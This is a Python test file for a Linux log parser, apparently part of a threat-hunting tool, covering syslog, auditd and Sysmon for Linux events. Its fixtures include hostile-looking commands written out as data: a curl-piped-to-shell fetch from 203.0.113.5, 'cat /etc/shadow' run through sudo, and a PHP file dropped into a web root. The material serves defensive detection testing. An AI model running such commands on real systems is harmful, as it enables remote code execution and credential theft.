"""Logs of Linux machines: syslog, audit, Sysmon for Linux."""

from __future__ import annotations

from vonggac.engines.hunt import Kind

from .opened import from_bytes, rules, sample


def test_a_year_is_taken_from_the_file_so_that_december_lies_before_january() -> None:
    events, bad = sample("auth.log")
    assert not bad
    assert [event.time for event in events[:2]] == ["2023-12-31T23:58:01+07:00", "2024-01-01T00:02:11+07:00"]


def test_syslog_tells_programs_apart_as_rules_name_them() -> None:
    events, _ = sample("auth.log")
    services = [event.kind.service for event in events]
    assert services == ["sshd", "sshd", "sudo", "cron", "auth", "auth", "sshd", "syslog", "syslog"]
    assert {event.kind.product for event in events} == {"linux"}


def test_what_sudo_and_sshd_say_of_users_stands_apart() -> None:
    events, _ = sample("auth.log")
    assert events[0].fields["src_ip"] == "203.0.113.5"
    assert events[0].fields["user"] == "quantri"
    assert events[0].fields["outcome"] == "failure"
    assert events[1].fields["outcome"] == "success"
    sudo = events[2].fields
    assert (sudo["user"], sudo["USER"], sudo["COMMAND"]) == ("vanthu", "root", "/usr/bin/cat /etc/shadow")


def test_rfc_5424_and_a_line_without_a_head_are_messages() -> None:
    events, _ = sample("auth.log")
    new, bare = events[6], events[7]
    assert new.time == "2024-01-01T00:08:00.5Z"
    assert new.fields["message"] == "Invalid user test from 203.0.113.9 port 9"
    assert new.fields["facility"] == "authpriv"
    assert bare.fields["message"] == "a line without any head"
    assert (bare.time, bare.record) == ("", 8)


def test_the_records_of_one_audit_event_become_one_event_with_a_process() -> None:
    events, _ = sample("audit.log")
    run = events[0]
    assert run.kind == Kind("linux", "process_creation", "auditd")
    assert run.fields["type"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert run.fields["CommandLine"] == "bash -c curl http://203.0.113.5 | sh"
    assert (run.fields["Image"], run.fields["User"], run.fields["CurrentDirectory"]) == ("/usr/bin/bash", "root", "/root")
    assert run.fields["a1"] == ["55d1", "-c"]
    assert run.fields["name"] == ["/usr/bin/bash", "/lib64/ld-linux-x86-64.so.2"]
    assert run.fields["proctitle"] == "bash -c "
    assert (run.time, run.host, run.record) == ("2023-12-31T17:00:00.125Z", "may-chu-mot", 1)


def test_interleaved_audit_events_are_joined_by_their_serial_number() -> None:
    events, bad = sample("audit.log")
    created, connected = events[1], events[2]
    assert created.kind.category == "file_event"
    assert created.fields["TargetFilename"] == "/var/www/html/tai lên.php"
    assert connected.kind.category == "network_connection"
    assert (connected.fields["DestinationIp"], connected.fields["DestinationPort"]) == ("203.0.113.5", "8080")
    assert rules(bad) == [(15, "bad-audit-line")]


def test_a_record_of_a_program_is_an_event_and_a_call_has_its_name() -> None:
    events, _ = sample("audit.log")
    assert events[3].fields["acct"] == "vanthu"
    assert events[3].fields["res"] == "failed"
    assert events[4].fields["SYSCALL"] == "sysinfo"
    assert "key" not in events[4].fields


def test_sysmon_for_linux_is_read_out_of_syslog() -> None:
    events, _ = sample("sysmon-linux.log")
    assert events[0].kind == Kind("linux", "", "sysmon", "linux-sysmon/operational", "1", "linux-sysmon")
    assert events[0].fields["CommandLine"] == "curl http://203.0.113.5/a?b=1&c=2"
    assert events[0].time == "2024-01-01T03:00:00.500000000Z"
    assert events[1].fields["message"] == "service started"


def test_audit_records_behind_a_syslog_head_are_audit_events() -> None:
    line = b'Jan  1 10:00:00 may-chu-mot audispd: type=EXECVE msg=audit(1704042000.125:1): argc=2 a0="id" a1="-u"\n'
    events, bad = from_bytes(line)
    assert not bad
    assert events[0].fields["CommandLine"] == "id -u"


def test_long_arguments_in_pieces_come_together() -> None:
    data = b'type=EXECVE msg=audit(1.0:1): argc=2 a0="x" a1_len=8 a1[0]=41414141\ntype=EXECVE msg=audit(1.0:1): a1[1]=42424242\n'
    events, _ = from_bytes(data)
    assert events[0].fields["a1"] == "AAAABBBB"


def test_a_process_has_the_parent_that_was_seen_to_start() -> None:
    run = (
        'type=SYSCALL msg=audit({at}.0:{at}): arch=c000003e syscall=59 success=yes ppid={ppid} pid={pid} uid=0 exe="{exe}"\n'
        'type=EXECVE msg=audit({at}.0:{at}): argc=1 a0="{exe}"\ntype=PROCTITLE msg=audit({at}.0:{at}): proctitle="x"\n'
    )
    chain = [(1, 1, 10, "/usr/sbin/nginx"), (2, 10, 11, "/bin/sh"), (3, 11, 12, "/usr/bin/id"), (4, 99, 13, "/usr/bin/who")]
    events, _ = from_bytes("".join(run.format(at=at, ppid=ppid, pid=pid, exe=exe) for at, ppid, pid, exe in chain).encode())
    assert [event.fields.get("ParentImage") for event in events] == [None, "/usr/sbin/nginx", "/bin/sh", None]
    assert events[2].fields["ParentCommandLine"] == "/bin/sh"
